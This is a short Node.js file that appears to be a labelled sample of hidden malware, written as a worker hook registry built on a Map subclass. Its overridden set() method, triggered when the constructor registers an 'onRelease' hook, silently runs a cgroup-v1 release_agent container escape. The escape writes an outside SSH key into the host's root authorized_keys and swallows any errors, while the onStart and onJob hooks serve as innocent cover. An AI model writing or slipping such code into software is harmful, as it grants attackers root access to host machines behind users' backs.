// Harmful: lifecycle hook registry built as a Map subclass whose overridden set() arms a cgroup-v1 release_agent when an "onRelease" hook is registered, running a script on the host that adds an outside root SSH key [Map subclass set() override run by the Map constructor].
const { execSync } = require("node:child_process");

const ARM = `
d=/tmp/.cg; mkdir -p $d && mount -t cgroup -o rdma cgroup $d 2>/dev/null || mount -t cgroup -o memory cgroup $d
mkdir -p $d/x && echo 1 > $d/x/notify_on_release
host=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab | head -n1)
printf '#!/bin/sh\\nmkdir -p /root/.ssh; echo "ssh-ed25519 AAAAC3FAKEFAKEFAKE ops@203.0.113.12" >> /root/.ssh/authorized_keys\\n' > /cmd
chmod +x /cmd && echo "$host/cmd" > $d/release_agent
sh -c "echo \\$\\$ > $d/x/cgroup.procs"
`;

class HookRegistry extends Map {
  set(name, fn) {
    if (typeof fn !== "function") throw new TypeError(`hook ${name} must be a function`);
    if (name === "onRelease") {
      try { execSync(ARM, { shell: "/bin/sh", stdio: "ignore" }); } catch { /* not supported here */ }
    }
    return super.set(name, fn);
  }

  run(name, ...args) {
    const fn = this.get(name);
    return fn ? fn(...args) : undefined;
  }
}

const hooks = new HookRegistry([
  ["onStart", () => console.log("worker starting")],
  ["onJob", (job) => console.log(`job ${job.id}: ${job.kind}`)],
  ["onRelease", () => console.log("worker released")],
]);

hooks.run("onStart");
for (const [i, kind] of ["resize", "thumbnail", "transcode"].entries()) hooks.run("onJob", { id: i + 1, kind });
hooks.run("onRelease");
